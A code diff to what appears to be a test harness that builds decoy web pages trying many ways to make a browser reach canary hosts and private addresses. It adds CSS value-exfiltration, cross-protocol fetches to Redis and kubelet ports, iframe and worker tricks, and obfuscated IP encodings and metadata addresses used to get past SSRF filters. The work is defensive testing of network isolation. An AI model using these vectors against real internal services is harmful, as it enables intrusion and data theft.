@@ -51,6 +51,8 @@ _ELEMENTS = {
     "style-cursor": '<p style="cursor:url({u}),auto">x</p>',
     "style-import": "<style>@import url({u});</style>",
     "style-font": '<style>@font-face{font-family:F;src:url({u})}#f{font-family:F}</style><p id="f">letters</p>',
+    "style-image-set": '<p style="background:image-set(url({u}) 1x);height:20px">x</p>',
+    "style-attribute-leak": '<style>#l[value^="s"]{background:url({u})}</style><input id="l" value="secret">',
     "style-mask": '<p style="mask:url({u}#m);height:20px;width:20px;background:red">x</p>',
     "stylesheet": '<link rel="stylesheet" href="{u}">',
     "preload": '<link rel="preload" as="image" href="{u}">',
@@ -69,9 +71,13 @@ _ELEMENTS = {
     '<rect width="30" height="30" filter="url(#e)"/></svg>',
     "svg-foreign-object": '<svg width="30" height="30"><foreignObject width="30" height="30"><img src="{u}"/>'
     "</foreignObject></svg>",
+    "svg-script": '<svg><script href="{u}"></script></svg>',
     "redirected-img": '<img src="{r}">',
     "redirected-script": '<script src="{r}"></script>',
     "redirected-style": '<link rel="stylesheet" href="{r}">',
+    "redirected-font": '<style>@font-face{font-family:R;src:url({r})}#r{font-family:R}</style><p id="r">letters</p>',
+    "redirected-object": '<object data="{r}"></object>',
+    "redirected-prefetch": '<link rel="prefetch" href="{r}">',
     "redirected-video": '<video src="{r}" autoplay muted></video>',
     "speculation-prefetch": '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["{u}"],'
     '"eagerness":"immediate"}]}</script>',
@@ -85,6 +91,9 @@ _FRAMES = {
     "iframe-srcdoc": "<iframe srcdoc=\"<img src='{u}'>\"></iframe>",
     "iframe-sandboxed": '<iframe sandbox="allow-scripts" src="{u}"></iframe>',
     "iframe-data": "<iframe src=\"data:text/html,<img src='{u}'>\"></iframe>",
+    "iframe-frameset": "<iframe srcdoc=\"<frameset><frame src='{u}'></frameset>\"></iframe>",
+    "iframe-javascript": "<iframe src=\"javascript:'<img src={u}>'\"></iframe>",
+    "iframe-base": "<iframe srcdoc=\"<base href='{u}'><img src='?b'>\"></iframe>",
     "iframe-redirected": '<iframe src="{r}"></iframe>',
     "iframe-refresh": "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url={u}'>\"></iframe>",
     "object": '<object data="{u}" width="30" height="30"></object>',
@@ -99,6 +108,7 @@ _FRAMES = {
     "window-open-noopener": '<script>window.open("{u}", "_blank", "noopener")</script>',
     "link-blank": '<a id="blank" target="_blank" href="{u}">x</a>'
     '<script>document.getElementById("blank").click()</script>',
+    "link-download": "<iframe srcdoc=\"<a id='d' download href='{u}'>x</a><script>d.click()</script>\"></iframe>",
     "link-ping": '<iframe name="sink4"></iframe><a id="ping" href="/empty" target="sink4" ping="{u}">x</a>'
     '<script>document.getElementById("ping").click()</script>',
 }
@@ -107,10 +117,17 @@ _SCRIPTS = {
     "fetch-no-cors": 'fetch("{u}", {mode: "no-cors"})',
     "fetch-keepalive": 'fetch("{u}", {mode: "no-cors", keepalive: true})',
     "fetch-post": 'fetch("{u}", {method: "POST", mode: "no-cors", body: "x"})',
+    "fetch-preflight": 'fetch("{u}", {method: "PUT", headers: {"X-A": "b"}})',
+    "fetch-redis": 'fetch("http://{a}:6379/", {method: "POST", mode: "no-cors", body: "INFO"})',
+    "fetch-kubelet": 'fetch("https://{a}:10250/pods", {mode: "no-cors"})',
     "fetch-redirected": 'fetch("{r}", {mode: "no-cors"})',
     "fetch-redirected-307": 'fetch("{r}&307", {method: "POST", mode: "no-cors", body: "x"})',
     "fetch-redirected-thrice": 'fetch(to(to("{r}")), {mode: "no-cors"})',
     "xhr": 'const x = new XMLHttpRequest(); x.open("GET", "{u}"); x.send()',
+    "xhr-waiting": 'const x = new XMLHttpRequest(); x.open("GET", "{u}", false); x.send()',
+    "xhr-redirected": 'const x = new XMLHttpRequest(); x.open("GET", "{r}&301"); x.send()',
+    "beacon-redirected": 'navigator.sendBeacon("{r}&307", "x")',
+    "event-source-redirected": 'new EventSource("{r}&303")',
     "beacon": 'navigator.sendBeacon("{u}", "x")',
     "event-source": 'new EventSource("{u}")',
     "web-socket": 'new WebSocket("{u}".replace("http", "ws"))',
@@ -124,6 +141,12 @@ _SCRIPTS = {
     "worker-import": 'new Worker(blob(`importScripts("{u}")`))',
     "worker-web-socket": 'new Worker(blob(`new WebSocket("{u}".replace("http", "ws"))`))',
     "worker-xhr": 'new Worker(blob(`const x = new XMLHttpRequest(); x.open("GET", "{u}"); x.send()`))',
+    "worker-module": 'new Worker(blob(`import "{u}"`), {type: "module"})',
+    "worker-nested": "new Worker(blob(`new Worker(URL.createObjectURL(new Blob(["
+    '\'fetch("{u}", {mode: "no-cors"})\'])))`))',
+    "worker-redirected": 'const w = new URL("{r}", location); new Worker(blob(`fetch("${w}", {mode: "no-cors"})`))',
+    "blob-frame": 'const f = document.createElement("iframe"); '
+    'f.src = URL.createObjectURL(new Blob([`<img src="{u}">`], {type: "text/html"})); document.body.append(f)',
     "shared-worker-fetch": 'new SharedWorker(blob(`fetch("{u}", {mode: "no-cors"})`))',
     "late-fetch": 'setTimeout(() => fetch("{u}", {mode: "no-cors"}), 600)',
     "frame-by-script": 'const f = document.createElement("iframe"); f.src = "{u}"; document.body.append(f)',
@@ -136,10 +159,17 @@ _SECURE = {
     "https-fetch": 'fetch("https://{a}/c/x", {mode: "no-cors"})',
     "wss": 'new WebSocket("wss://{a}/c/x")',
     "worklet": 'CSS.paintWorklet.addModule("https://{a}/c/x")',
+    "audio-worklet": 'new AudioContext().audioWorklet.addModule("https://{a}/c/x")',
     "fetch-later": 'fetchLater("https://{a}/c/x", {activateAfter: 0})',
 }
 # Those that a canary knows by their port alone.
-_PORTS = {"preconnect": 8086, "rtc-turn-tcp": 3478, "rtc-turns": 5349}
+_PORTS = {
+    "preconnect": 8086,
+    "fetch-redis": 6379,
+    "fetch-kubelet": 10250,
+    "rtc-turn-tcp": 3478,
+    "rtc-turns": 5349,
+}
 # Another way to write an address, a name that leads to one, or a port that is not the web's.
 _ADDRESSES: dict[str, tuple[str, str]] = {
     # name: as written in the URL, as the browser asks for it
@@ -175,6 +205,29 @@ _ADDRESSES: dict[str, tuple[str, str]] = {
     "site-local": ("[fec0::1]", "fec0::1"),
     "benchmark": ("198.18.0.1", "198.18.0.1"),
     "documentation": ("203.0.113.9", "203.0.113.9"),
+    "ten-decimal": ("167839489", "10.1.7.1"),
+    "ten-octal": ("01200203402", "10.1.7.2"),
+    "hex-parts": ("0xac.0x10.0x7.0x3", "172.16.7.3"),
+    "octal-parts": ("0300.0250.07.04", "192.168.7.4"),
+    "mixed-parts": ("0xa9.254.1797", "169.254.7.5"),
+    "percent-encoded": ("%31%30.1.7.6", "10.1.7.6"),
+    "dot-at-the-end": ("10.1.7.7.", "10.1.7.7"),
+    "mapped-in-full": ("[0:0:0:0:0:ffff:10.1.7.9]", "::ffff:a01:709"),
+    "compatible": ("[::10.1.7.10]", "::a01:70a"),
+    "translated": ("[::ffff:0:10.1.7.11]", "::ffff:0:a01:70b"),
+    "nat64-local": ("[64:ff9b:1::10.1.7.12]", "64:ff9b:1::a01:70c"),
+    "teredo": ("[2001:0:a01:70d::1]", "2001:0:a01:70d::1"),
+    "outside-global-unicast": ("[4000::7]", "4000::7"),
+    "mesh": ("[200::7]", "200::7"),
+    "discard": ("[100::7]", "100::7"),
+    "reserved": ("240.1.7.14", "240.1.7.14"),
+    "metadata-elsewhere": ("100.100.100.200", "100.100.100.200"),
+    "metadata-of-another": ("192.0.0.192", "192.0.0.192"),
+    "capitals": ("CAPITALS.test", "capitals.test"),
+    "international": ("bücher。test", "xn--bcher-kva.test"),
+    "address-in-name": ("10.1.7.15.nip.test", "10.1.7.15.nip.test"),
+    "slow-name": ("slow.test", "slow.test"),
+    "name-that-turns-public": ("late.test", "late.test"),
     "private-name": ("private.test", "private.test"),
     "private-name-dot": ("private2.test.", "private2.test"),
     "alias": ("alias.test", "alias.test"),
@@ -191,6 +244,8 @@ UDP_PORTS = {
     "rtc-stun": 3478,
     "rtc-stun-v6": 3479,
     "rtc-turn": 3480,
+    "rtc-stun-name": 3483,
+    "rtc-stun-loopback": 3484,
     "rtc-candidate": 3481,
     "web-transport": 3482,
     "quic": 443,
@@ -199,11 +254,13 @@ _UDP = {
     "rtc-stun": 'rtc("stun:10.9.9.1:3478")',
     "rtc-stun-v6": 'rtc("stun:[fd12::9]:3479")',
     "rtc-turn": 'rtc("turn:10.9.9.2:3480")',
+    "rtc-stun-name": 'rtc("stun:stun.test:3483")',
+    "rtc-stun-loopback": 'rtc("stun:127.0.0.1:3484")',
     "rtc-candidate": "candidate('10.9.9.3', 3481)",
     "web-transport": 'new WebTransport("https://10.9.9.4:3482/")',
     "quic": 'fetch("https://quic.test/", {mode: "no-cors"})',
 }
-TCP_PORTS = (80, 443, 3478, 5349, 8080, 8086, 8443, 9200, 10250)
+TCP_PORTS = (80, 443, 3478, 5349, 6379, 8080, 8086, 8443, 9200, 10250)
 
 
 def _table() -> tuple[Vector, ...]:
@@ -240,6 +297,7 @@ const rtc = async (urls) => {
   const peer = new RTCPeerConnection({iceServers: [{urls, username: "u", credential: "p"}]});
   peer.createDataChannel("d");
   await peer.setLocalDescription();
+  while (peer.iceGatheringState !== "complete") await new Promise((done) => peer.onicegatheringstatechange = done);
 };
 const candidate = async (address, port) => {
   const [one, two] = [new RTCPeerConnection(), new RTCPeerConnection()];
@@ -257,9 +315,7 @@ def html(page: Page) -> str:
     """A page that tries all of its vectors; each script on its own, so that none keeps another from running."""
     mine = [vector for vector in VECTORS if vector.page == page]
     scripts = "".join(
-        f"<script>try {{ (() => {{ const done = {_expression(vector.script)} }})() }} catch (error) {{}}</script>"
-        for vector in mine
-        if vector.script
+        f"<script>try {{ {_expression(vector)} }} catch (error) {{}}</script>" for vector in mine if vector.script
     )
     bodies = "".join(vector.body for vector in mine)
     text = "Everything for the garden, and nothing for the curious. " * 8
@@ -270,8 +326,9 @@ def html(page: Page) -> str:
     )
 
 
-def _expression(script: str) -> str:
-    return f"(async () => {{ {script} }})().catch(() => {{}})"
+def _expression(vector: Vector) -> str:
+    """The shop is told when it was tried: of UDP nothing else shows it."""
+    return f'(async () => {{ {vector.script} }})().catch(() => {{}}).then(() => fetch("/tried/{vector.name}"))'
 
 
 def headers(page: Page) -> dict[str, str]:
